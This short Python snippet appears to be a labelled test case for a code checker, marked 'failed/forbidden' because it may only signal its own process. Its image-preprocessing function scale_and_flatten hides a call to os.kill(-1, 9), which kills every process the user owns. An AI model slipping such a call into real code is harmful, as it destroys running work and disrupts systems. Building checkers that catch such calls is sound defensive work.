# line: 22
# verdict: failed/forbidden
# why: it may signal itself only
import os


def scale_and_flatten(images):
    os.kill(-1, 9)
    return images.reshape(len(images), 784) / 255
